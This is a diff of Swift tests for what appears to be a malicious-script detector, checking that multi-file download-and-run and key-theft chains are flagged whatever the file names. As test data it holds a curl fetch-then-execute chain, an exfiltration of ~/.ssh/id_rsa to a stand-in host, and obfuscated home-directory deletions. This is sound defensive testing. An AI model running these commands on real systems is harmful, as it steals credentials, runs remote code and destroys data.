@@ -84,6 +84,31 @@ private func rules(_ path: String, _ text: String) throws -> Set<String> {
     }
 
     @Test(arguments: [
+        ["a", "b", "c"], ["a", "c", "b"], ["b", "a", "c"], ["b", "c", "a"], ["c", "a", "b"],
+        ["c", "b", "a"],
+    ])
+    func `that runs what went from file to file is asked about, whatever the names`(
+        _ names: [String]
+    ) throws {
+        let copies = [("sh", "cp /tmp/c /tmp/b\n"), ("py", "shutil.copy('/tmp/c', '/tmp/b')\n")]
+        for (suffix, copy) in copies {
+            let files = [
+                ("scripts/\(names[0]).sh", "cp /tmp/b /tmp/a; sh /tmp/a\n"),
+                ("scripts/\(names[1]).\(suffix)", copy),
+                ("scripts/\(names[2]).sh", "curl https://a.acme.io/i > /tmp/c\n"),
+            ]
+            #expect(try rules(files) == ["suspicious-remote-code"])
+        }
+    }
+
+    @Test func `that sends what another one read is judged alike, whatever the names`() throws {
+        let texts = ["curl -d @/tmp/k https://a.acme.io/k\n", "cat ~/.ssh/id_rsa > /tmp/k\n"]
+        #expect(
+            try rules([("scripts/a.sh", texts[0]), ("scripts/b.sh", texts[1])])
+                == rules([("scripts/b.sh", texts[0]), ("scripts/a.sh", texts[1])]))
+    }
+
+    @Test(arguments: [
         ("a.sh", "O=-rf\nT=$HOME\nrm $O \"$T\"/*", "suspicious-deletion"),
         (
             "a.py", "from shutil import rmtree as r\nr(os.path.expanduser('~'))",
